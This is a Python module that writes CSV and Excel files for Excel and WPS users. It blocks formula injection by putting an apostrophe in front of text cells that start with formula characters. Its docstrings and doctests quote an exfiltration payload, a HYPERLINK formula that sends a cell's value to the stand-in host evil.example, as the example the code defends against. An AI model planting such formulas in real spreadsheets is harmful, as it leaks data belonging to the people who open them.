"""Spreadsheets that are safe to open in Excel and WPS: CSV and XLSX writers.

Scoreboards, quarantine lists and coverage tables are opened by people in Excel
or WPS. Any text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is taken for a formula there (BAD-INPUTS case 9):
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` typed into a chat group
becomes a live link that sends the neighbouring cell away, and pandas'
``DataFrame.to_excel`` writes it as a real formula cell. The OWASP "CSV
Injection" page (https://owasp.org/www-community/attacks/CSV_Injection) gives
the rule this module follows: prefix such a cell with an apostrophe ``'``. We add
the line feed to the OWASP list (issue 6 asks for it): an importer that trims
leading whitespace would otherwise expose the formula that follows it.

Nothing is dropped: a name such as ``=王小明`` is written as ``'=王小明``, and
the original is always the written text minus that one leading apostrophe.
Numbers stay numbers (``-3.5`` is a number cell, not the text ``'-3.5``).

Examples
--------
>>> import pandas as pd
>>> from gridmap.export.spreadsheet import neutralise_frame
>>> frame = pd.DataFrame({"cadre": ["=王小明", "王小明"], "score": [-3.5, 2.0]})
>>> neutralise_frame(frame)
     cadre  score
0  '=王小明   -3.5
1    王小明    2.0
"""

from __future__ import annotations

import datetime as dt
import functools
import itertools
import logging
import os
import re
import unicodedata
from collections import Counter
from os import PathLike
from pathlib import Path
from typing import Any, Callable, Iterator, Mapping, Union

import numpy as np
import pandas as pd

from gridmap.errors import SchemaError

__all__ = ["FORMULA_PREFIXES", "EXCEL_MAX_TEXT", "neutralise_text", "neutralise_frame", "write_csv", "write_xlsx"]

logger = logging.getLogger(__name__)

#: A text starting with one of these is run as a formula by Excel or WPS: the OWASP "CSV Injection"
#: list (``= + - @``, tab, carriage return; https://owasp.org/www-community/attacks/CSV_Injection)
#: plus the line feed.
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\n")
#: Most characters one Excel cell holds (Excel specifications and limits).
EXCEL_MAX_TEXT = 32_767

#: One cell value after conversion: what both writers know how to store.
_Value = Union[None, bool, int, float, str, dt.datetime, dt.date]
#: Characters XML 1.0 cannot hold (openpyxl's ILLEGAL_CHARACTERS_RE plus lone surrogates, U+FFFE, U+FFFF).
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
#: An underscore that Excel would read as the start of an ``_xHHHH_`` escape once CRs are escaped.
_XSTRING_UNDERSCORE = re.compile(r"_(?=x[0-9A-Fa-f]{4}(?:_|\r))")
#: Characters Excel refuses in sheet names, and control characters.
_SHEET_FORBIDDEN = re.compile("[\\[\\]:*?/\\\\\x00-\x1f\ud800-\udfff\ufffe\uffff]")
_SHEET_MAX = 31
_EXACT_INT = 2**53  # larger integers lose digits as Excel numbers (IEEE doubles)
_GENERAL_DIGITS = 10**11  # Excel's "General" format shows larger integers in scientific notation
_WIDTH_ROWS = 1000  # rows looked at to size the columns
_CSV_CHUNK = 10_000  # rows formatted at a time
_DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"


def neutralise_text(value: str) -> str:
    """Prefix a text that a spreadsheet would run as a formula with an apostrophe.

    A text starting with one of :data:`FORMULA_PREFIXES` gets a leading ``'``
    (the OWASP "CSV Injection" recommendation); any other text is returned
    unchanged. Nothing is dropped: a cadre really called ``=王小明`` is written
    ``'=王小明``, and the original is the result minus the one leading
    apostrophe whenever one was added.

    Parameters
    ----------
    value : str
        The text of one cell.

    Returns
    -------
    str

    Raises
    ------
    SchemaError
        When `value` is not a str.

    Examples
    --------
    >>> neutralise_text('=HYPERLINK("http://evil.example","click")')
    '\\'=HYPERLINK("http://evil.example","click")'
    >>> neutralise_text("=王小明"), neutralise_text("王小明"), neutralise_text("-")
    ("'=王小明", '王小明', "'-")
    >>> neutralise_text("\\n=1+1")
    "'\\n=1+1"
    """
    if not isinstance(value, str):
        raise SchemaError(f"neutralise_text takes a str, got {type(value).__name__}; "
                          "use neutralise_frame for a whole table")
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of `frame` whose text cells cannot run as spreadsheet formulas.

    Every str cell of an object, string or categorical column goes through
    :func:`neutralise_text`, including the str cells of columns that mix text
    and numbers. Numeric, bool and datetime columns, and the non-text cells of
    mixed columns, are untouched: a negative number stays a number. Index,
    column names and dtypes are kept; the caller's frame is not changed.
    Column names are left alone here; :func:`write_csv` and
    :func:`write_xlsx` neutralise them in the header row.

    Parameters
    ----------
    frame : pandas.DataFrame
        Any table (a GeoDataFrame keeps its geometry and CRS).

    Returns
    -------
    pandas.DataFrame

    Examples
    --------
    >>> import pandas as pd
    >>> frame = pd.DataFrame({"who": ["@SUM(1,1)", None], "mixed": ["-1+1", -2], "n": [-1, 2]},
    ...                      index=[10, 20])
    >>> out = neutralise_frame(frame)
    >>> out.loc[10, "who"], out.loc[10, "mixed"], out.loc[20, "mixed"], out["n"].tolist()
    ("'@SUM(1,1)", "'-1+1", -2, [-1, 2])
    >>> frame.loc[10, "who"]
    '@SUM(1,1)'
    """
    out = frame.copy()
    for j in range(out.shape[1]):
        column = out.iloc[:, j]
        if _holds_text(column.dtype):
            out.isetitem(j, _neutralise_series(column))
    return out


def write_csv(frame: pd.DataFrame, path: str | PathLike[str], *, encoding: str = "utf-8-sig") -> Path:
    """Write a table as a CSV file that Excel and WPS open safely, Chinese included.

    - **Encoding**: UTF-8 with a byte order mark by default, without which
      Excel on Windows reads UTF-8 as the local code page (mojibake).
    - **Text** is neutralised (:func:`neutralise_text`) and always quoted;
      **numbers** are never quoted (like :data:`csv.QUOTE_NONNUMERIC`). Quoting
      does not stop Excel from running a formula (a quoted ``"=1+1"`` still
      runs; the apostrophe is what stops it), but it makes every separator,
      quote and line break inside a text safe, and lets any reader tell text
      from numbers in the raw file: ``"-1+1"`` is text, ``-3.5`` a number. Note
      that Excel shows the apostrophe of a neutralised cell opened from CSV.
      Floats are written in Python's shortest round-trip form, ints exactly,
      bools as ``TRUE``/``FALSE`` (Excel's literals); infinities as the text
      ``inf`` / ``'-inf`` (an unquoted ``-inf`` would be a formula), with a
      warning in the log.
    - **Header**: column names are neutralised too but quoted only when they
      must be (a separator, quote, line break or edge space), so the first line
      stays the plain list of names that scripts look for.
    - **Missing values** (None, NaN, NA, NaT) are empty fields.
    - **Times** are written as text ``YYYY-MM-DD HH:MM:SS`` (``.ffffff`` added
      when there are microseconds). A zone-aware datetime column is written in
      its own zone, as the clock there showed, and its zone goes into the
      header: ``reported_at (Asia/Shanghai)``. A zone-aware time in an object
      column carries its UTC offset instead: ``2025-03-01 08:00:00+08:00``.
    - **No index** column: call ``frame.reset_index()`` first to keep it.
    - **Geometry** is refused: a spreadsheet holds no geometry, and a WKT
      column would be of no use to the people who open it. Add ``lon``/``lat``
      columns and pass a plain DataFrame.
    - Control characters are kept as they are (CSV can hold them).

    The file is written next to `path` first and then moved into place, so a
    failed write leaves no half-written file.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table; it is not changed.
    path : str or path-like
        Where to write.
    encoding : str, default "utf-8-sig"
        Text encoding; keep the default unless a reader needs another.

    Returns
    -------
    pathlib.Path
        The file written.

    Raises
    ------
    SchemaError
        When a column holds geometries, or a text cannot be encoded in `encoding`.

    Examples
    --------
    >>> import pathlib, tempfile
    >>> import pandas as pd
    >>> frame = pd.DataFrame({"cadre": ["=王小明", "王小明"], "score": [-3.5, None],
    ...                       "reported_at": pd.to_datetime(["2025-03-01 00:30"]).tz_localize("UTC").repeat(2)})
    >>> frame["reported_at"] = frame["reported_at"].dt.tz_convert("Asia/Shanghai")
    >>> out = write_csv(frame, pathlib.Path(tempfile.mkdtemp()) / "scores.csv")
    >>> out.read_bytes()[:3]
    b'\\xef\\xbb\\xbf'
    >>> print(out.read_text(encoding="utf-8-sig"), end="")
    cadre,score,reported_at (Asia/Shanghai)
    "'=王小明",-3.5,"2025-03-01 08:30:00"
    "王小明",,"2025-03-01 08:30:00"
    """
    notes: Counter[str] = Counter()
    columns = _prepare(frame, notes)
    out = Path(path)
    try:
        _replace_atomically(out, lambda tmp: _write_csv_lines(tmp, columns, encoding))
    except UnicodeEncodeError as exc:
        raise SchemaError(f"a text cannot be written in {encoding} ({exc.reason}: {exc.object[exc.start:exc.end]!r}); "
                          "use the default encoding utf-8-sig, which holds every character") from None
    _log_notes(notes, out)
    return out


def write_xlsx(
    frames: pd.DataFrame | Mapping[str, pd.DataFrame], path: str | PathLike[str], *, sheet_name: str = "Sheet1"
) -> Path:
    """Write one or more tables as an Excel workbook that holds no formula at all.

    One sheet per frame (a mapping's keys name the sheets; a single frame goes
    to `sheet_name`). Each sheet has a bold, frozen header row and columns
    sized to their contents (CJK characters count double; the header and the
    first 1,000 rows are looked at). No index column: call
    ``frame.reset_index()`` first to keep it.

    How values are stored:

    - **Text** is neutralised (:func:`neutralise_text`) and stored explicitly
      as a string cell. openpyxl on its own turns any text starting with ``=``
      into a formula and ``#N/A`` into an error cell; here that cannot happen,
      neither in cells nor in the header. Carriage returns and text that looks
      like an ``_xHHHH_`` escape are escaped as ECMA-376 ``ST_Xstring``
      requires, so Excel, WPS and calamine read back exactly the text given;
      a text with whitespace at either end (a lone space included) carries
      ``xml:space="preserve"`` so that no reader trims it.
      Characters XML cannot hold (control characters other than tab, line feed
      and carriage return; U+FFFE, U+FFFF) are replaced by U+FFFD and a warning
      in the log says in how many cells. Longer text than
      :data:`EXCEL_MAX_TEXT` characters is refused (openpyxl would cut it).
    - **Numbers** are number cells (numpy types converted), written exactly:
      a float that openpyxl's 16 significant digits would change is written
      in Python's shortest round-trip form. Integers beyond
      2**53, which an Excel number cannot hold exactly, are written as text;
      integers of 12 digits or more get the number format ``0`` so that Excel
      shows every digit. **Infinities** are written as the text ``inf`` /
      ``'-inf`` with a warning (Excel has no infinite number).
    - **Bools** are bool cells; **missing values** (None, NaN, NA, NaT) are empty cells.
    - **Times**: Excel dates carry no zone. A zone-aware datetime column is
      written as Excel date cells showing the clock time in the column's own
      zone, and the zone is added to its header:
      ``reported_at (Asia/Shanghai)``. Naive datetimes are written as they are;
      a zone-aware time in an object column is written as text with its UTC
      offset (``2025-03-01 08:00:00+08:00``); times before 1900 (which Excel
      cannot show) as text.
    - **Sheet names** lose the characters Excel forbids (``[]:*?/\\`` and
      control characters, each becomes ``_``) and leading or trailing
      apostrophes; a name starting with a formula character gets a leading
      ``_``; names are cut to 31 characters and made unique (``" (2)"``).
    - **Geometry** is refused, as in :func:`write_csv`.

    The file is written next to `path` first and then moved into place.

    Parameters
    ----------
    frames : pandas.DataFrame or mapping of str to pandas.DataFrame
        The tables; they are not changed.
    path : str or path-like
        Where to write (``.xlsx``).
    sheet_name : str, default "Sheet1"
        Name of the sheet when `frames` is a single frame.

    Returns
    -------
    pathlib.Path
        The file written.

    Raises
    ------
    SchemaError
        When there is no frame, a column holds geometries or a text is too long for Excel.

    Examples
    --------
    >>> import pathlib, tempfile
    >>> import openpyxl
    >>> import pandas as pd
    >>> frame = pd.DataFrame({"cadre": ['=HYPERLINK("http://evil.example","click")', "王小明"],
    ...                       "score": [-3.5, 2]})
    >>> out = write_xlsx({"鼓楼/社区": frame}, pathlib.Path(tempfile.mkdtemp()) / "scores.xlsx")
    >>> sheet = openpyxl.load_workbook(out)["鼓楼_社区"]
    >>> [(c.value, c.data_type) for c in sheet["A"]]
    [('cadre', 's'), ('\\'=HYPERLINK("http://evil.example","click")', 's'), ('王小明', 's')]
    >>> [c.value for c in sheet["B"]], sheet.freeze_panes
    (['score', -3.5, 2], 'A2')
    """
    from openpyxl import Workbook  # deferred: heavy, only .xlsx needs it

    named = _named_frames(frames, sheet_name)
    notes: Counter[str] = Counter()
    book = Workbook(write_only=True)
    for title, frame in named:
        _write_sheet(book.create_sheet(title), frame, notes)
    out = Path(path)
    _replace_atomically(out, book.save)
    _log_notes(notes, out)
    return out


# ---------------------------------------------------------------------------------------------------------------
# neutralising frames
# ---------------------------------------------------------------------------------------------------------------


def _holds_text(dtype: Any) -> bool:
    return dtype == object or isinstance(dtype, (pd.StringDtype, pd.CategoricalDtype))


def _neutralise_cell(value: Any) -> Any:
    return neutralise_text(value) if isinstance(value, str) else value


def _neutralise_series(column: pd.Series) -> pd.Series:
    if isinstance(column.dtype, pd.CategoricalDtype):
        categories = [_neutralise_cell(c) for c in column.cat.categories]
        if len(set(categories)) == len(categories):
            return column.cat.rename_categories(categories)
        column = column.astype(object)  # "=a" and "'=a" both present: the categories would collide
    values = [_neutralise_cell(v) for v in column.to_numpy(dtype=object)]
    return pd.Series(values, index=column.index, dtype=column.dtype, name=column.name)


# ---------------------------------------------------------------------------------------------------------------
# converting columns to cell values, shared by both writers
# ---------------------------------------------------------------------------------------------------------------


def _prepare(frame: pd.DataFrame, notes: Counter[str]) -> list[tuple[str, list[_Value]]]:
    """(header text, cell values) per column: text neutralised, missing values None, times resolved."""
    if not isinstance(frame, pd.DataFrame):
        raise SchemaError(f"expected a pandas DataFrame, got {type(frame).__name__}")
    _refuse_geometry(frame)
    columns = []
    for j in range(frame.shape[1]):
        values, zone = _column_values(frame.iloc[:, j], notes)
        name = str(frame.columns[j]) + (f" ({zone})" if zone else "")
        columns.append((neutralise_text(name), values))
    return columns


def _refuse_geometry(frame: pd.DataFrame) -> None:
    for name, dtype in zip(frame.columns, frame.dtypes):
        if getattr(dtype, "name", "") == "geometry":
            raise SchemaError(
                f"column {name!r} holds geometries, which a spreadsheet cannot show; add lon/lat columns "
                f"(for points: frame['lon'] = frame.geometry.x, frame['lat'] = frame.geometry.y) and pass "
                f"pd.DataFrame(frame.drop(columns={name!r}))")


def _column_values(column: pd.Series, notes: Counter[str]) -> tuple[list[_Value], str | None]:
    """The cell values of one column, and the zone of a zone-aware datetime column."""
    dtype = column.dtype
    if dtype.kind == "M":
        zone = column.dt.tz
        if zone is None:
            return _datetimes(column), None
        return _datetimes(column.dt.tz_localize(None)), str(zone)  # the clock time in the column's own zone
    if dtype.kind == "f":
        return _floats(column.to_numpy(dtype=float, na_value=np.nan), notes), None
    if isinstance(dtype, np.dtype) and dtype.kind in "iub":
        return column.to_numpy().tolist(), None  # Python ints and bools
    return [_cell(v, notes) for v in column.to_numpy(dtype=object)], None


def _datetimes(column: pd.Series) -> list[_Value]:
    """Naive datetimes to microseconds (Python's precision); NaT becomes None."""
    stamps: list[_Value] = column.to_numpy(dtype="datetime64[us]").astype(object).tolist()
    return stamps


def _floats(values: np.ndarray, notes: Counter[str]) -> list[_Value]:
    cells: list[_Value] = [None if v != v else v for v in values.tolist()]
    for k in np.flatnonzero(np.isinf(values)):
        cells[k] = _infinite(float(values[k]), notes)
    return cells


def _float(value: float, notes: Counter[str]) -> _Value:
    if value != value:
        return None
    return _infinite(value, notes) if value in (np.inf, -np.inf) else value


def _infinite(value: float, notes: Counter[str]) -> str:
    notes["infinite"] += 1
    return neutralise_text("inf" if value > 0 else "-inf")


def _cell(value: Any, notes: Counter[str]) -> _Value:
    """One cell of an object column as a value both writers can store."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, str):
        return neutralise_text(value)
    if isinstance(value, (bool, np.bool_)):
        return bool(value)
    if isinstance(value, (int, np.integer)):
        return int(value)
    if isinstance(value, (float, np.floating)):
        return _float(float(value), notes)
    if isinstance(value, (dt.datetime, np.datetime64)):
        return _time_cell(value)
    if isinstance(value, dt.date):
        return value
    return neutralise_text(str(value))


def _time_cell(value: dt.datetime | np.datetime64) -> _Value:
    stamp = pd.Timestamp(value)
    if stamp is pd.NaT:
        return None
    moment = stamp.floor("us").to_pydatetime()
    return _time_text(moment) if moment.tzinfo is not None else moment


def _time_text(moment: dt.datetime) -> str:
    """``YYYY-MM-DD HH:MM:SS`` (``.ffffff`` when there are microseconds, ``+HH:MM`` when zone-aware).

    Examples
    --------
    >>> import datetime as dt
    >>> _time_text(dt.datetime(2025, 3, 1, 8, 5, tzinfo=dt.timezone(dt.timedelta(hours=8))))
    '2025-03-01 08:05:00+08:00'
    >>> _time_text(dt.datetime(2025, 3, 1, 8, 5, 0, 250))
    '2025-03-01 08:05:00.000250'
    """
    text = (f"{moment.year:04d}-{moment.month:02d}-{moment.day:02d} "
            f"{moment.hour:02d}:{moment.minute:02d}:{moment.second:02d}")
    if moment.microsecond:
        text += f".{moment.microsecond:06d}"
    offset = moment.utcoffset()
    if offset is not None:
        minutes = int(offset.total_seconds() // 60)
        sign, minutes = ("-" if minutes < 0 else "+"), abs(minutes)
        text += f"{sign}{minutes // 60:02d}:{minutes % 60:02d}"
    return text


# ---------------------------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------------------------


def _write_csv_lines(path: Path, columns: list[tuple[str, list[_Value]]], encoding: str) -> None:
    """Header, then the rows in chunks (CRLF line ends, as RFC 4180 and Excel write them)."""
    rows = zip(*(values for _, values in columns))
    with open(path, "w", encoding=encoding, newline="") as fh:
        fh.write(",".join(_csv_header(name) for name, _ in columns) + "\r\n")
        while chunk := list(itertools.islice(rows, _CSV_CHUNK)):
            fh.write("".join(",".join(map(_csv_field, row)) + "\r\n" for row in chunk))


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _csv_header(name: str) -> str:
    needs_quotes = any(ch in name for ch in ',"\r\n') or name != name.strip()
    return _quoted(name) if needs_quotes else name


def _csv_field(value: _Value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, dt.datetime):
        return _quoted(_time_text(value))
    if isinstance(value, dt.date):
        return _quoted(value.isoformat())
    return _quoted(value)


# ---------------------------------------------------------------------------------------------------------------
# XLSX
# ---------------------------------------------------------------------------------------------------------------


def _named_frames(frames: pd.DataFrame | Mapping[str, pd.DataFrame], sheet_name: str) -> list[tuple[str, Any]]:
    items = [(sheet_name, frames)] if isinstance(frames, pd.DataFrame) else list(frames.items())
    if not items:
        raise SchemaError("write_xlsx got no frame; pass a DataFrame or a mapping of sheet names to DataFrames")
    taken: set[str] = set()
    return [(_sheet_title(str(name), taken), frame) for name, frame in items]


def _sheet_title(name: str, taken: set[str]) -> str:
    """A sheet name Excel accepts, unique (case-insensitively) among `taken`, which it joins."""
    title = _SHEET_FORBIDDEN.sub("_", name).strip("'") or "Sheet"
    if title.startswith(FORMULA_PREFIXES):
        title = "_" + title
    if title.casefold() == "history":  # reserved by Excel
        title += "_"
    title = base = title[:_SHEET_MAX]
    number = 2
    while title.casefold() in taken:
        suffix = f" ({number})"
        title, number = base[: _SHEET_MAX - len(suffix)] + suffix, number + 1
    taken.add(title.casefold())
    return title


def _write_sheet(sheet: Any, frame: pd.DataFrame, notes: Counter[str]) -> None:
    """Convert every cell first (so that a refused text raises before any XML is written), then stream the rows."""
    from openpyxl.styles import Font  # deferred: heavy, only .xlsx needs it
    from openpyxl.utils import get_column_letter  # deferred: heavy, only .xlsx needs it

    title = sheet.title
    columns = [
        (_xlsx_text(name, notes, (title, 1, j)),
         [_xlsx_value(v, notes, (title, i, j)) for i, v in enumerate(values, start=2)])
        for j, (name, values) in enumerate(_prepare(frame, notes), start=1)
    ]
    for j, width in enumerate(_widths(columns), start=1):
        sheet.column_dimensions[get_column_letter(j)].width = width
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header = [_text_cell(sheet, name) for name, _ in columns]
    for cell in header:
        cell.font = bold
    sheet.append(header)
    for row in zip(*(values for _, values in columns)):
        sheet.append([_xlsx_cell(sheet, value) for value in row])


def _xlsx_value(value: _Value, notes: Counter[str], where: tuple[str, int, int]) -> _Value:
    """A cell value as the sheet will hold it: every text (big integers, old dates included) escaped and checked."""
    if isinstance(value, int) and not isinstance(value, bool) and abs(value) > _EXACT_INT:
        notes["big_int"] += 1
        value = neutralise_text(str(value))
    elif isinstance(value, dt.date) and value.year < 1900:  # Excel dates start in 1900
        value = _time_text(value) if isinstance(value, dt.datetime) else value.isoformat()
    return _xlsx_text(value, notes, where) if isinstance(value, str) else value


def _xlsx_cell(sheet: Any, value: _Value) -> Any:
    """What to append for one value: the value itself, or a cell when its type or format must be forced."""
    if isinstance(value, str):
        return _text_cell(sheet, value)
    if isinstance(value, float):
        return _float_cell(sheet, value)
    if isinstance(value, int) and not isinstance(value, bool) and abs(value) >= _GENERAL_DIGITS:
        return _number_cell(sheet, value, number_format="0")
    return value


def _text_cell(sheet: Any, text: str) -> Any:
    """A cell that is a string cell whatever the text looks like (never a formula or an error).

    A text with whitespace at either end is stored with ``xml:space="preserve"`` (see :func:`_edge_space_text`).
    """
    from openpyxl.cell import WriteOnlyCell  # deferred: heavy, only .xlsx needs it

    cell = WriteOnlyCell(sheet, value=_edge_space_text(text) if text != text.strip() else text)
    cell.data_type = "s"
    return cell


@functools.cache
def _preserved_text_type() -> type:
    """The class of :func:`_edge_space_text` (built on first use: openpyxl is imported only when needed)."""
    from openpyxl.cell.rich_text import CellRichText  # deferred: heavy, only .xlsx needs it
    from openpyxl.xml.functions import XML_NS, Element, SubElement  # deferred: heavy, only .xlsx needs it

    class PreservedText(CellRichText):  # type: ignore[misc]
        """One plain inline string whose ``<t>`` always carries ``xml:space="preserve"``."""

        def to_tree(self) -> Any:
            container = Element("is")
            SubElement(container, "t", {f"{{{XML_NS}}}space": "preserve"}).text = str(self)
            return container

    return PreservedText


def _edge_space_text(text: str) -> Any:
    """`text` as an inline string that keeps its leading and trailing whitespace.

    XML readers may drop whitespace at the edges of a ``<t>`` element unless it
    carries ``xml:space="preserve"`` (ECMA-376 Part 1, §18.4.12 ``t`` (Text) and
    §22.4 / §22.9.2.19 ``ST_Xstring``; W3C XML 1.0 §2.10 "White Space Handling"):
    Excel and calamine read ``<t> </t>`` as an empty cell. openpyxl adds the
    attribute only when lxml is installed, and without lxml never to a
    whitespace-only text, so such texts are written through this
    :class:`openpyxl.cell.rich_text.CellRichText` of one plain string, whose
    XML is the same ``<is><t>`` element as any other inline string, with the
    attribute. Texts without edge whitespace keep openpyxl's faster path.
    """
    return _preserved_text_type()([text])


def _float_cell(sheet: Any, value: float) -> Any:
    """The float itself when openpyxl's 16 significant digits hold it exactly; else its shortest exact text."""
    if float(f"{value:.16g}") == value:
        return value
    return _number_cell(sheet, repr(value))


def _number_cell(sheet: Any, value: int | str, *, number_format: str | None = None) -> Any:
    """A number cell; `value` may be the number's text, which is then written as is into ``<v>``."""
    from openpyxl.cell import WriteOnlyCell  # deferred: heavy, only .xlsx needs it

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "n"
    if number_format is not None:
        cell.number_format = number_format
    return cell


def _xlsx_text(text: str, notes: Counter[str], where: tuple[str, int, int]) -> str:
    """Text as stored in the sheet XML: XML-illegal characters replaced, CR and ``_xHHHH_`` escaped."""
    if len(text) > EXCEL_MAX_TEXT:
        from openpyxl.utils import get_column_letter  # deferred: heavy, only .xlsx needs it

        sheet, row, col = where
        raise SchemaError(f"cell {get_column_letter(col)}{row} of sheet {sheet!r} holds {len(text):,} characters; "
                          f"an Excel cell holds at most {EXCEL_MAX_TEXT:,}. Shorten the text, or write CSV "
                          "with write_csv, which has no such limit")
    if _XML_ILLEGAL.search(text):
        notes["replaced"] += 1
        text = _XML_ILLEGAL.sub("\ufffd", text)
    if "_x" in text or "\r" in text:
        text = _XSTRING_UNDERSCORE.sub("_x005F_", text).replace("\r", "_x000D_")
    return text


def _widths(columns: list[tuple[str, list[_Value]]]) -> Iterator[float]:
    for name, values in columns:
        widest = max([_display_width(name)] + [_display_width(_shown(v)) for v in values[:_WIDTH_ROWS]])
        yield float(min(max(widest + 2, 6), 60))


def _shown(value: _Value) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return "yyyy-mm-dd hh:mm:ss"
    return str(value)


def _display_width(text: str) -> int:
    """Columns a text takes on screen: East Asian wide and full-width characters count double."""
    longest = max(text.split("\n"), key=len) if text else ""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in longest)


# ---------------------------------------------------------------------------------------------------------------
# files and log
# ---------------------------------------------------------------------------------------------------------------


def _replace_atomically(out: Path, write: Callable[[Path], Any]) -> None:
    """Write through a temporary file in the same folder, then move it over `out`."""
    tmp = out.with_name(f".{out.name}.{os.getpid()}.part")
    try:
        write(tmp)
        os.replace(tmp, out)
    finally:
        tmp.unlink(missing_ok=True)


def _log_notes(notes: Counter[str], out: Path) -> None:
    if notes["replaced"]:
        logger.warning("%s: %d text cells held characters a workbook cannot store (control characters, "
                       "U+FFFE, U+FFFF); each was replaced by U+FFFD", out, notes["replaced"])
    if notes["infinite"]:
        logger.warning("%s: %d infinite numbers written as the text inf / '-inf", out, notes["infinite"])
    if notes["big_int"]:
        logger.warning("%s: %d integers beyond 2**53 written as text so that no digit is lost", out, notes["big_int"])
